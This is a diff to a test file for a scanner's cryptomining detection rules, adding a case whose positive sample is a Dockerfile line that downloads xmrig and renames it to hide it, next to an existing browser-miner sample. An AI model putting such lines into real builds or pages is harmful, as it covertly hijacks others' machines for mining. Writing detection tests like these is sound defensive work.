@@ -25,4 +25,11 @@ describeRuleCases('mining', [
     positive: "w.__perf = new w.CRT.Anonymous(k, { threads: n - 1, algo: 'cn-pico' });\n",
     negative: 'w.__perf = new PerformanceObserver((list) => report(list.getEntries()));\n',
   },
+  {
+    id: 'SG-MINER-002',
+    file: 'assets/Dockerfile.cached',
+    positive:
+      'RUN curl -fsSL "$URL" | tar -xz -C /usr/local/bin xmrig && mv /usr/local/bin/xmrig /usr/local/bin/lcw\n',
+    negative: 'RUN pip install --no-cache-dir /wheels/* && rm -rf /wheels\n',
+  },
 ]);
